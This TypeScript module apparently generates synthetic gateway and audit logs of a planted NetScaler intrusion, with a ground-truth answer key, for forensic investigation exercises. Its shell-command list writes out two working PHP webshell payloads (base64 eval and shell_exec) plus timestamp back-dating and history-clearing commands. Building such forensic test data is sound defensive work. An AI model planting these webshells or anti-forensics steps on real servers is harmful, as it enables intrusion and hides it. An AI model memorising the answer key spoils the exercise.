import { DECOY_SHELTER, GATEWAY_CHANGES, type Scenario } from './example-prosecution-service.js';
import {
  DOMAIN, GATEWAY_NET, type LineEvent, type NsEvent, PROXY_PATH, RECORD_TYPE, type RecordCategory, SERVER_ADDRESS, SESSION_PREFIX,
  type StaffMember, VPN_POOL_PREFIX, applicationFor, auditLine, auditPath, gatewayLog, generateStaff, httpAccess, httpRequest, isoUtc,
  logSeed, proxyRow, recordId, shellCommand, shellLine, sslHandshake, staffHome, tcpConnStat,
} from './scenario-log-common.js';
import { SeededRandom } from './seeded-random.js';

/**
 * The attack planted in the demo logs, as one plan that both the generator and the ground truth
 * read (nothing is typed twice). The story, on ns-gw-01 while it still ran 14.1-43.50:
 *
 * 1. night of 14–15 July: a root shell on the appliance (CVE-2025-6543) drops two PHP webshells
 *    under the logon web root and back-dates them (`bash.log`, `notice.log`, `httpaccess.log`);
 * 2. 15 July, morning: a burst of CitrixBleed-2 requests from the same address leaks memory into
 *    `AAA Message … Authentication is rejected for <raw bytes>` lines, minutes after a senior
 *    officer logged in from home;
 * 3. from another address the officer's session is used without a new LOGIN (TCPCONNSTAT and
 *    HTTPREQUEST lines with the officer's SessionId, Source the attacker);
 * 4. through that session the attacker reads terrorism files, shelter addresses, crown-witness
 *    records and HR files (application audit logs, source the session's VPN intranet address);
 * 5. then uploads a large archive from that intranet address to an external host (proxy flows).
 *
 * One hole is planted: the shelter registry wrote no audit events for a few hours of that day, so
 * part of the shelter-address reads cannot be seen; the other categories are fully logged.
 */

export const ATTACK_GATEWAY = 'ns-gw-01';
const DAY = '2025-07-15';
const at = (clock: string): number => Date.parse(`${DAY}T${clock}Z`);
const WEBSHELLS = ['/var/netscaler/logon/LogonPoint/uiareas/x.php', '/var/netscaler/logon/themes/Default/css/ns-style.php'] as const;
const EXPLOIT_AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36';
/** The browser the thief replays the stolen session in: not the fleet's managed browser. */
export const THIEF_BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

export interface AttackRead {
  readonly t: number;
  readonly system: string;
  readonly category: RecordCategory;
  readonly action: 'login' | 'search' | 'view' | 'download';
  readonly recordId: string | null;
  readonly bytes: number;
  readonly session: string;
}

export interface AttackTcp {
  readonly start: number;
  readonly end: number;
  readonly port: number;
  readonly destination: string;
  readonly send: number;
  readonly recv: number;
}

export interface AttackPlan {
  readonly gateway: string;
  readonly victim: StaffMember;
  readonly ips: { readonly exploit: string; readonly hijack: string; readonly exfiltration: string };
  /** The victim's Gateway session on the attack day; the generator writes its legitimate part. */
  readonly session: {
    readonly id: number;
    readonly loginIp: string;
    readonly vpnIp: string;
    readonly ppe: number;
    readonly login: number;
    /** The victim's own activity ends here (no LOGOUT: the session stays alive). */
    readonly victimUntil: number;
    /** LOGOUT by time-out after the attacker's last use. */
    readonly logout: number;
  };
  readonly aaa: readonly { readonly t: number; readonly ppe: number; readonly username: string }[];
  readonly shell: readonly { readonly t: number; readonly pid: number; readonly command: string }[];
  readonly webshells: readonly string[];
  readonly web: readonly { readonly t: number; readonly client: string; readonly request: string; readonly status: number; readonly size: number }[];
  readonly httpErrors: readonly { readonly t: number; readonly text: string }[];
  readonly hijackTcp: readonly AttackTcp[];
  readonly hijackHttp: readonly { readonly t: number; readonly request: string }[];
  readonly reads: readonly AttackRead[];
  readonly transfer: {
    readonly t: number; readonly device: string; readonly src: string; readonly srcPort: number; readonly dst: string; readonly dstPort: number;
    readonly bytesOut: number; readonly bytesIn: number; readonly url: string; readonly user: string;
  };
  /** The planted logging gap: `file` has no lines in [from, to). */
  readonly gap: { readonly file: string; readonly system: string; readonly category: RecordCategory; readonly from: number; readonly to: number };
}

/** A username as CitrixBleed-2 leaks it: stray memory, printable ASCII mixed with bytes 0x80–0xFF (as latin1 chars). */
function leakedUsername(random: SeededRandom): string {
  const fragments = ['NSC_AAAC=', 'Host: ', 'HTTP/1.1', 'Cookie: ', 'login', '<InitialValue>', 'Content-Length: '];
  let text = random.next() < 0.4 ? random.pick(fragments) : '';
  const length = random.int(6, 34);
  let high = 0;
  while (text.length < length || high === 0) {
    let code: number;
    if (random.next() < 0.45) {
      code = random.int(0x80, 0xff);
      high++;
    } else {
      do code = random.int(0x21, 0x7e);
      while (code === 0x22 || code === 0x5c);
    }
    text += String.fromCharCode(code);
  }
  return text;
}

function spread(random: SeededRandom, from: number, to: number, count: number): number[] {
  const step = (to - from) / Math.max(1, count);
  return Array.from({ length: count }, (_, i) => Math.round(from + i * step + random.next() * step * 0.8));
}

export function attackPlan(scenario: Scenario): AttackPlan {
  const random = new SeededRandom(logSeed(scenario, 7));
  const [victim] = generateStaff(scenario, 1) as [StaffMember];
  const ips = { exploit: `203.0.113.${random.int(60, 99)}`, hijack: `198.51.100.${random.int(20, 59)}`, exfiltration: `203.0.113.${random.int(200, 240)}` };
  const vpnIp = `${VPN_POOL_PREFIX}.${random.int(100, 199)}.${random.int(10, 240)}`;
  const login = at('05:41:12') + random.int(0, 40_000);
  const upgrade = Date.parse(GATEWAY_CHANGES.find((c) => c.asset === ATTACK_GATEWAY && c.event === 'upgrade')?.time ?? '');
  if (!(login < upgrade)) throw new Error('the attack must precede the upgrade of its gateway');

  // 1. Shell on the appliance, night before.
  const pid = random.int(40_000, 69_999);
  const [x, css] = WEBSHELLS;
  const commands = [
    'id',
    'uname -a',
    'ls -la /var/netscaler/logon/LogonPoint/uiareas/',
    `echo <?php @eval(base64_decode($_POST['k'])); ?> > ${x}`,
    `printf '<?php\nif (isset($_REQUEST["c"])) {\n  echo shell_exec($_REQUEST["c"]);\n}\n?>' > ${css}`,
    `chmod 644 ${x} ${css}`,
    `touch -t 202506251432 ${x} ${css}`,
    `ls -lT ${x} ${css}`,
    'unset HISTFILE',
  ];
  let t = Date.parse('2025-07-14T23:31:05Z') + random.int(0, 20_000);
  const shell = commands.map((command) => {
    t += random.int(6_000, 55_000);
    return { t, pid, command };
  });
  const lastShell = t;
  const web: { t: number; client: string; request: string; status: number; size: number }[] = [
    { t: lastShell + 95_000, client: ips.exploit, request: `GET ${x.replace('/var/netscaler', '')} HTTP/1.1`, status: 200, size: 0 },
    { t: lastShell + 131_000, client: ips.exploit, request: `POST ${x.replace('/var/netscaler', '')} HTTP/1.1`, status: 200, size: 312 },
  ];
  const httpErrors = [
    { t: lastShell + 131_500, text: 'sh: ldapsearch: not found' },
    { t: at('06:31:02') + 500, text: 'cat: /flash/nsconfig/keys/updated/ns-server.key: No such file or directory' },
  ];
  web.push({ t: at('06:31:02'), client: ips.exploit, request: `POST ${css.replace('/var/netscaler', '')} HTTP/1.1`, status: 200, size: 74 });

  // 2. CitrixBleed-2 burst.
  const aaa: { t: number; ppe: number; username: string }[] = [];
  t = at('05:52:10') + random.int(0, 30_000);
  for (let i = random.int(42, 64); i > 0; i--) {
    t += random.int(4_000, 30_000);
    aaa.push({ t, ppe: random.int(0, 3), username: leakedUsername(random) });
    web.push({ t: t - 150, client: ips.exploit, request: 'POST /p/u/doAuthentication.do HTTP/1.1', status: 200, size: random.int(6_000, 12_000) });
  }

  // 3–4. Hijacked session: reads in phases, one long connection per phase to the application.
  const used = new Map<RecordCategory, number[]>();
  const pool = (category: RecordCategory, size: number) => {
    let list = used.get(category);
    if (!list) used.set(category, (list = random.shuffle(Array.from({ length: size }, (_, i) => i))));
    return list;
  };
  const phases: [RecordCategory, string, string, number, number][] = [
    ['oc-terrorism-files', '07:14:20', '07:48:05', 12, 4],
    ['shelter-addresses', '08:05:40', '08:52:10', 9, 1],
    ['crown-witnesses', '09:31:15', '10:02:30', 8, 2],
    ['shelter-addresses', '10:10:05', '11:41:50', 14, 2],
    ['hr-files', '11:52:30', '12:33:45', 10, 1],
    ['shelter-addresses', '13:35:10', '13:58:40', 5, 0],
  ];
  const poolSize: Partial<Record<RecordCategory, number>> = { 'oc-terrorism-files': 900, 'shelter-addresses': 140, 'crown-witnesses': 80, 'hr-files': 4000 };
  const sessions = new Map<string, string>();
  const reads: AttackRead[] = [];
  const hijackTcp: AttackTcp[] = [];
  const port = () => random.int(49_152, 65_535);
  for (const [category, from, to, views, downloads] of phases) {
    const system = applicationFor(scenario, category);
    const start = at(from);
    const end = at(to);
    let session = sessions.get(system);
    const ids = pool(category, poolSize[category] ?? 100).splice(0, views).map((n) => recordId(category, n));
    // The decoy shelter looks like any other: the attacker opens it in the first shelter phase.
    if (category === 'shelter-addresses' && !reads.some((r) => r.recordId === DECOY_SHELTER.recordId)) ids.splice(ids.length >> 1, 0, DECOY_SHELTER.recordId);
    const times = spread(random, start, end, ids.length + downloads + 2);
    let k = 0;
    if (!session) {
      session = `${SESSION_PREFIX[system] ?? 'xx'}-${random.hex(6)}`;
      sessions.set(system, session);
      reads.push({ t: times[k++]!, system, category, action: 'login', recordId: null, bytes: random.int(400, 900), session });
    }
    reads.push({ t: times[k++]!, system, category, action: 'search', recordId: null, bytes: random.int(2_000, 9_000), session });
    for (const id of ids) reads.push({ t: times[k++]!, system, category, action: 'view', recordId: id, bytes: random.int(6_000, 90_000), session });
    for (const id of ids.slice(0, downloads)) {
      reads.push({ t: times[k++] ?? end, system, category, action: 'download', recordId: id, bytes: random.int(200_000, 4_000_000), session });
    }
    const recv = reads.filter((r) => r.system === system && r.t >= start && r.t <= end).reduce((n, r) => n + r.bytes, 0);
    hijackTcp.push({ start: start - 20_000, end: end + random.int(10_000, 60_000), port: port(), destination: SERVER_ADDRESS[system] ?? '10.10.0.1:443', send: random.int(40_000, 200_000), recv: recv + random.int(5_000, 40_000) });
  }
  // Background use of the session (file shares, document store, mail).
  const firstUse = at('07:10:02') + random.int(0, 20_000);
  for (let u = firstUse; u < at('15:20:00'); u += random.int(90_000, 420_000)) {
    const destination = random.pick(['fs-01', 'docstore', 'mail-01', 'fs-02']);
    const duration = random.int(2_000, 240_000);
    hijackTcp.push({ start: u, end: u + duration, port: port(), destination: SERVER_ADDRESS[destination]!, send: random.int(800, 30_000), recv: random.int(5_000, 3_000_000) });
  }

  // 5. The upload.
  const transferStart = at('14:05:31') + random.int(0, 15_000);
  const bytesOut = random.int(1_250_000_000, 1_450_000_000);
  const transfer = {
    t: transferStart, device: 'proxy-01', src: vpnIp, srcPort: port(), dst: ips.exfiltration, dstPort: 443,
    bytesOut, bytesIn: random.int(40_000, 90_000), url: `https://transfer-share.example/api/v2/upload/${random.hex(16)}`, user: victim.user,
  };
  hijackTcp.push({ start: transferStart - 1_000, end: transferStart + random.int(30, 40) * 60_000, port: port(), destination: SERVER_ADDRESS.proxy!, send: bytesOut + random.int(2_000_000, 6_000_000), recv: transfer.bytesIn + 20_000 });
  hijackTcp.sort((a, b) => a.end - b.end);
  const hijackHttp = [
    { t: firstUse - 1_000, request: 'GET /vpn/index.html' },
    { t: firstUse + 4_000, request: 'GET /vpns/services.html' },
    { t: at('09:28:44'), request: 'GET /vpns/portal/tmindex.html' },
  ];
  const lastUse = Math.max(...hijackTcp.map((c) => c.end));

  const shelter = applicationFor(scenario, 'shelter-addresses');
  return {
    gateway: ATTACK_GATEWAY,
    victim,
    ips,
    session: {
      id: 30_000_000 + random.int(0, 9_999_999),
      loginIp: staffHome(victim),
      vpnIp,
      ppe: random.int(0, 3),
      login,
      victimUntil: at('10:28:00') + random.int(0, 300_000),
      logout: lastUse + 30 * 60_000,
    },
    aaa,
    shell,
    webshells: [...WEBSHELLS],
    web: web.sort((a, b) => a.t - b.t),
    httpErrors,
    hijackTcp,
    hijackHttp,
    reads: reads.sort((a, b) => a.t - b.t),
    transfer,
    gap: { file: auditPath(shelter), system: shelter, category: 'shelter-addresses', from: at('09:12:40'), to: at('13:27:05') },
  };
}

export function inGap(plan: AttackPlan, t: number): boolean {
  return t >= plan.gap.from && t < plan.gap.to;
}

/** What the hijack adds to the session's LOGOUT summary. */
export function hijackTotals(plan: AttackPlan): { connections: number; send: number; recv: number; http: number } {
  return {
    connections: plan.hijackTcp.length,
    send: plan.hijackTcp.reduce((n, c) => n + c.send, 0),
    recv: plan.hijackTcp.reduce((n, c) => n + c.recv, 0),
    http: plan.hijackHttp.length,
  };
}

/** The attack's lines for every source, keyed by file (ns.log events by gateway, before their envelope). */
export function attackEvents(plan: AttackPlan): { ns: NsEvent[]; lines: Map<string, LineEvent[]> } {
  const gw = plan.gateway;
  const { vserver } = GATEWAY_NET[gw]!;
  const { session, victim } = plan;
  const ns: NsEvent[] = [];
  const lines = new Map<string, LineEvent[]>();
  const add = (file: string, event: LineEvent) => {
    let list = lines.get(file);
    if (!list) lines.set(file, (list = []));
    list.push(event);
  };
  let spcb = 48_000_000 + session.id % 1_000_000;
  for (const a of plan.aaa) {
    ns.push({ t: a.t - 1_000, pri: 135, ppe: a.ppe, fm: 'SSLLOG SSL_HANDSHAKE_SUCCESS', body: sslHandshake({ spcb: spcb++, clientIp: plan.ips.exploit, clientPort: 40_000 + (a.t % 20_000), vserver, ms: 40 + (a.t % 90) }), attack: 'exploit-handshake' });
    ns.push({ t: a.t, pri: 135, ppe: a.ppe, fm: 'AAA Message', body: aaaBody(a.username), attack: 'exploit-attempt' });
  }
  const common = { user: victim.user, loginIp: session.loginIp, sessionId: session.id, vserver };
  const first = plan.hijackHttp[0]?.t ?? session.login;
  ns.push({ t: first - 2_000, pri: 135, ppe: session.ppe, fm: 'SSLLOG SSL_HANDSHAKE_SUCCESS', body: sslHandshake({ spcb, clientIp: plan.ips.hijack, clientPort: 51_000 + (first % 9_000), vserver, ms: 61 }), attack: 'hijack-handshake' });
  for (const h of plan.hijackHttp) ns.push({ t: h.t, pri: 134, ppe: session.ppe, fm: 'SSLVPN HTTPREQUEST', body: httpRequest({ ...common, t: h.t, request: h.request }), attack: 'hijack-request' });
  for (const c of plan.hijackTcp) {
    ns.push({
      t: c.end, pri: 134, ppe: session.ppe, fm: 'SSLVPN TCPCONNSTAT',
      body: tcpConnStat({ ...common, natIp: session.vpnIp, source: `${plan.ips.hijack}:${c.port}`, destination: c.destination, start: c.start, end: c.end, send: c.send, recv: c.recv }),
      attack: 'hijack-connection',
    });
  }
  const host = gw;
  for (const s of plan.shell) {
    const text = shellLine({ t: s.t, host, shell: 'bash', pid: s.pid, user: 'root', tty: '/dev/pts/3', text: shellCommand(s.command) });
    const done = shellLine({ t: s.t + 400, host, shell: 'bash', pid: s.pid, user: 'root', tty: '/dev/pts/3', text: 'return_code="0"' });
    for (const name of ['bash.log', 'notice.log']) {
      add(gatewayLog(gw, name), { t: s.t, s: text, lines: physicalLines(s.command), attack: 'shell' });
      add(gatewayLog(gw, name), { t: s.t + 400, s: done, attack: 'shell' });
    }
  }
  for (const w of plan.web) {
    add(gatewayLog(gw, 'httpaccess.log'), { t: w.t, s: httpAccess({ t: w.t, client: w.client, vserver, pid: 69_000 + (w.t % 400), request: w.request, status: w.status, size: w.size, agent: w.request.includes('.php') ? 'python-requests/2.32.3' : EXPLOIT_AGENT, micros: 2_000 + (w.t % 90_000) }), attack: 'exploit-request' });
  }
  for (const e of plan.httpErrors) add(gatewayLog(gw, 'httperror.log'), { t: e.t, s: `${e.text}\n`, attack: 'command-output' });
  for (const r of plan.reads) {
    add(auditPath(r.system), {
      t: r.t,
      s: auditLine({ t: r.t, system: r.system, user: victim.user, session: r.session, ip: session.vpnIp, action: r.action, recordType: r.action === 'login' ? 'session' : RECORD_TYPE[r.category], recordId: r.recordId, bytes: r.bytes, outcome: 'success', agent: THIEF_BROWSER }),
      attack: 'data-access',
    });
  }
  const tr = plan.transfer;
  add(PROXY_PATH, { t: tr.t, s: proxyRow({ t: tr.t, device: tr.device, src: tr.src, srcPort: tr.srcPort, dst: tr.dst, dstPort: tr.dstPort, protocol: 'https', out: tr.bytesOut, in: tr.bytesIn, action: 'allowed', user: tr.user, url: tr.url }), attack: 'exfiltration' });
  return { ns, lines };
}

export function aaaBody(username: string): string {
  return `  "Authentication is rejected for ${username}"`;
}

function physicalLines(command: string): number {
  return command.split('\n').length;
}

// ---------------------------------------------------------------------------------------------

export interface TimeWindow {
  readonly first: string;
  readonly last: string;
}

/** The attack as an investigation should find it; times are ISO UTC. */
export interface AttackGroundTruth {
  readonly gateway: string;
  readonly attackerIps: { readonly exploit: string; readonly hijack: string; readonly exfiltration: string };
  readonly hijackedSession: {
    readonly sessionId: number; readonly user: string; readonly userPrincipal: string; readonly loginIp: string; readonly vpnIp: string;
    readonly login: string; readonly logout: string; readonly attackerIp: string; readonly tcpConnections: number; readonly httpRequests: number;
  };
  readonly windows: { readonly [kind in 'shell' | 'webshellRequests' | 'aaa' | 'hijack' | 'reads' | 'transfer' | 'attack']: TimeWindow };
  readonly aaaAttempts: {
    readonly count: number;
    /** `body` is the exact text after `AAA Message <logid> 0 :`, bytes as latin1 characters. */
    readonly lines: readonly { readonly time: string; readonly usernameHex: string; readonly body: string }[];
  };
  readonly shellCommands: readonly { readonly time: string; readonly user: string; readonly command: string; readonly physicalLines: number }[];
  readonly webshells: readonly string[];
  readonly webRequests: readonly { readonly time: string; readonly client: string; readonly request: string; readonly status: number }[];
  readonly httpErrorLines: readonly string[];
  /** Record ids the attacker viewed or downloaded that the logs show, per data category. */
  readonly recordsRead: Readonly<Record<string, readonly string[]>>;
  /** Record ids read while the gap's log wrote nothing: real, but invisible in the logs. */
  readonly recordsReadInGap: Readonly<Record<string, readonly string[]>>;
  readonly reads: readonly { readonly time: string; readonly system: string; readonly category: string; readonly action: string; readonly recordId: string | null; readonly session: string; readonly visible: boolean }[];
  readonly transfer: { readonly time: string; readonly src: string; readonly srcPort: number; readonly dst: string; readonly dstPort: number; readonly bytesOut: number; readonly bytesIn: number; readonly url: string; readonly user: string; readonly file: string };
  readonly gap: { readonly file: string; readonly system: string; readonly category: string; readonly from: string; readonly to: string };
  /** The thief's connections through the hijacked session, per destination address (ip:port). */
  readonly connectionsTo: Readonly<Record<string, number>>;
}

export function attackGroundTruth(scenario: Scenario): AttackGroundTruth {
  return truthOf(attackPlan(scenario));
}

export function truthOf(plan: AttackPlan): AttackGroundTruth {
  const window = (times: number[]): TimeWindow => ({ first: isoUtc(Math.min(...times)), last: isoUtc(Math.max(...times)) });
  const visible = (r: AttackRead) => !(r.system === plan.gap.system && inGap(plan, r.t));
  const ids = (seen: boolean) => {
    const out: Record<string, string[]> = {};
    for (const r of plan.reads) {
      if (r.recordId === null || visible(r) !== seen) continue;
      const list = (out[r.category] ??= []);
      if (!list.includes(r.recordId)) list.push(r.recordId);
    }
    for (const list of Object.values(out)) list.sort();
    return out;
  };
  const hijackTimes = [...plan.hijackTcp.map((c) => c.end), ...plan.hijackHttp.map((h) => h.t)];
  const web = plan.web.filter((w) => w.request.includes('.php'));
  const { transfer } = plan;
  const all = [...plan.shell.map((s) => s.t), ...plan.aaa.map((a) => a.t), ...hijackTimes, ...plan.reads.map((r) => r.t), plan.transfer.t, ...plan.web.map((w) => w.t)];
  return {
    gateway: plan.gateway,
    attackerIps: { ...plan.ips },
    hijackedSession: {
      sessionId: plan.session.id, user: plan.victim.user, userPrincipal: `${plan.victim.user}@${DOMAIN}`, loginIp: plan.session.loginIp, vpnIp: plan.session.vpnIp,
      login: isoUtc(plan.session.login), logout: isoUtc(plan.session.logout), attackerIp: plan.ips.hijack, tcpConnections: plan.hijackTcp.length, httpRequests: plan.hijackHttp.length,
    },
    windows: {
      shell: window(plan.shell.map((s) => s.t)),
      webshellRequests: window(web.map((w) => w.t)),
      aaa: window(plan.aaa.map((a) => a.t)),
      hijack: window(hijackTimes),
      reads: window(plan.reads.map((r) => r.t)),
      transfer: window([plan.transfer.t]),
      attack: window(all),
    },
    aaaAttempts: {
      count: plan.aaa.length,
      lines: plan.aaa.map((a) => ({ time: isoUtc(a.t), usernameHex: Buffer.from(a.username, 'latin1').toString('hex'), body: aaaBody(a.username) })),
    },
    shellCommands: plan.shell.map((s) => ({ time: isoUtc(s.t), user: 'root', command: s.command, physicalLines: physicalLines(s.command) })),
    webshells: [...plan.webshells],
    webRequests: plan.web.map((w) => ({ time: isoUtc(w.t), client: w.client, request: w.request, status: w.status })),
    httpErrorLines: plan.httpErrors.map((e) => e.text),
    recordsRead: ids(true),
    recordsReadInGap: ids(false),
    reads: plan.reads.map((r) => ({ time: isoUtc(r.t), system: r.system, category: r.category, action: r.action, recordId: r.recordId, session: r.session, visible: visible(r) })),
    transfer: { time: isoUtc(transfer.t), src: transfer.src, srcPort: transfer.srcPort, dst: transfer.dst, dstPort: transfer.dstPort, bytesOut: transfer.bytesOut, bytesIn: transfer.bytesIn, url: transfer.url, user: transfer.user, file: PROXY_PATH },
    gap: { file: plan.gap.file, system: plan.gap.system, category: plan.gap.category, from: isoUtc(plan.gap.from), to: isoUtc(plan.gap.to) },
    connectionsTo: plan.hijackTcp.reduce<Record<string, number>>((n, c) => ({ ...n, [c.destination]: (n[c.destination] ?? 0) + 1 }), {}),
  };
}
